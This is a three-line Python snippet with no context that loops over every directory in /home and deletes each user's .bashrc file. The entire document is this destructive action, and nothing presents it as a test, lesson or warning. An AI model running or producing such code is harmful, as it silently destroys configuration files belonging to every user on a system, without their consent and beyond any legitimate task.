import os
for name in os.listdir("/home"):
    os.remove("/home/" + name + "/.bashrc")
